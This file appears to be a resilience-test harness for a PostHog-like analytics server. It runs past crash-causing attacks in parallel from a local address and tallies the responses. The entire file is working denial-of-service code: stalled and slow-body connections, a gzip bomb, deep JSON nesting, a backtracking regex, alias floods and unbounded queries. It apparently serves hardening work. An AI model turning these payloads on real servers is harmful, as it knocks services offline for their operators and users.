/**
 * Every attack that has stopped the server before, at once and from an address of its own; run as a program. It gets
 * the server, a token and a key as JSON, goes on until it is killed or its time is over, and prints how many answers of
 * each status each attack got.
 */
import { request as httpRequest, type OutgoingHttpHeaders } from 'node:http'
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'

export interface AttackParts {
  url: string
  token: string
  key: string
  seconds: number
  /** In one request. */
  aliases: number
}

const ATTACKER = '127.0.0.2'
const { url, token, key, seconds, aliases } = JSON.parse(process.argv[2] ?? '') as AttackParts
const { hostname: host, port } = new URL(url)
const end = performance.now() + seconds * 1_000
/** How often each attack got each answer. */
const answers: Record<string, number> = {}

function note(attack: string, answer: string | number): void {
  const name = `${attack}: ${answer}`
  answers[name] = (answers[name] ?? 0) + 1
}

interface Ask {
  method?: string
  path: string
  headers?: OutgoingHttpHeaders
  body?: Buffer | string
}

/** The status, or the code of the connection error. */
const ask = ({ method = 'POST', path, headers, body }: Ask): Promise<number | string> =>
  new Promise((resolve) => {
    const options = { host, port, method, path, headers: { ...headers }, localAddress: ATTACKER, agent: false as const }
    const sent = httpRequest(options, (response) => {
      response.resume()
      response.on('close', () => resolve(response.statusCode ?? 0))
    })
    sent.on('error', (error) => resolve((error as NodeJS.ErrnoException).code ?? 'error'))
    sent.end(body)
  })

/** Sends requests repeatedly, this many at a time. */
const repeat = (attack: string, atOnce: number, next: () => Ask): Promise<unknown> =>
  Promise.all(
    Array.from({ length: atOnce }, async () => {
      while (performance.now() < end) {
        note(attack, await ask(next()))
        await sleep(5)
      }
    }),
  )

/** A connection that promises a body and then sends little of it, or nothing. */
const stall = (head: string, body: Buffer | null): Promise<void> =>
  new Promise((resolve) => {
    const socket = connect({ host, port: Number(port), localAddress: ATTACKER }, () => {
      socket.write(`POST /s/?token=${token} HTTP/1.1\r\nHost: ${host}\r\n${head}\r\n\r\n`)
      if (body) socket.write(body)
    })
    socket.on('data', () => {})
    socket.on('error', () => {})
    socket.on('close', () => resolve())
    setTimeout(() => socket.destroy(), Math.max(0, end - performance.now()))
  })

const chunk = (bytes: number) =>
  Buffer.concat([Buffer.from(`${bytes.toString(16)}\r\n`), Buffer.alloc(bytes, 'a'), Buffer.from('\r\n')])

async function stallAll(attack: string, sockets: number, head: string, body: Buffer | null): Promise<void> {
  const again = async () => {
    while (performance.now() < end) {
      await stall(head, body)
      note(attack, 'closed')
      await sleep(20)
    }
  }
  await Promise.all(Array.from({ length: sockets }, again))
}

const JSON_TYPE = { 'content-type': 'application/json' }
const post = (path: string, body: unknown): Ask => ({ path, headers: JSON_TYPE, body: JSON.stringify(body) })
const get = (path: string): Ask => ({
  method: 'GET',
  path: `/api/environments/1/${path}`,
  headers: { authorization: `Bearer ${key}` },
})

const bomb = gzipSync(`{"api_key":"phc_nobody_has_this_token","batch":[${' '.repeat(60_000_000)}]}`, { level: 9 })
const nested = '['.repeat(58_000)
const tinyReplay = JSON.stringify([
  {
    event: '$snapshot',
    properties: {
      token,
      distinct_id: 'mallory',
      $session_id: 'attack-session',
      $window_id: 'w',
      $snapshot_data: Array.from({ length: 500_000 }, () => ({ type: 3, data: {}, timestamp: 1 })),
    },
  },
])
let made = 0
const aliasBatch = () => {
  const from = made
  made += aliases
  return post('/batch/', {
    api_key: token,
    batch: Array.from({ length: aliases }, (_, i) => ({
      event: '$create_alias',
      distinct_id: 'mallory',
      properties: { alias: `mallory-${from + i}` },
    })),
  })
}
const regex = encodeURIComponent(
  JSON.stringify([{ key: 'text', operator: 'regex', value: '(a|aa|aaa)+b$', type: 'person' }]),
)
const hugeTrend = {
  kind: 'TrendsQuery',
  interval: 'hour',
  dateRange: { date_from: '-4990h' },
  breakdownFilter: { breakdown: '$current_url', breakdown_type: 'event', breakdown_limit: 500 },
  series: Array.from({ length: 26 }, () => ({ kind: 'EventsNode', event: '$pageview' })),
}
const endlessTrend = {
  kind: 'TrendsQuery',
  interval: 'minute',
  dateRange: { date_from: '0001-01-01', date_to: '9999-01-01' },
  series: [{ kind: 'EventsNode', event: '$pageview' }],
}
const query = (asked: object): Ask => ({
  ...post('/api/environments/1/query/', { query: asked }),
  headers: { ...JSON_TYPE, authorization: `Bearer ${key}` },
})

await Promise.all([
  stallAll('promised bytes', 20, 'Content-Length: 24000000', null),
  stallAll('promised bytes, some sent', 6, 'Content-Length: 24000000', Buffer.alloc(10_000_000, 'a')),
  stallAll('chunks that stop', 6, 'Transfer-Encoding: chunked', chunk(10_000_000)),
  repeat('gzip bomb', 16, () => ({
    path: '/batch/',
    headers: { ...JSON_TYPE, 'content-encoding': 'gzip' },
    body: bomb,
  })),
  repeat('nesting', 2, () => ({ path: '/batch/', headers: JSON_TYPE, body: nested })),
  repeat('nesting in replay', 1, () => ({ path: `/s/?token=${token}`, headers: JSON_TYPE, body: nested })),
  repeat('tiny replay events', 1, () => ({ path: `/s/?token=${token}`, headers: JSON_TYPE, body: tinyReplay })),
  repeat('aliases', 1, aliasBatch),
  repeat('regex on long values', 2, () => get(`persons/?properties=${regex}`)),
  repeat('search', 2, () => get('persons/?search=nobody-has-this')),
  repeat('large page', 2, () => get('persons/?limit=1000&search=long-')),
  repeat('huge trend', 1, () => query(hugeTrend)),
  repeat('endless trend', 1, () => query(endlessTrend)),
])
console.log(JSON.stringify(answers))
process.exit(0)
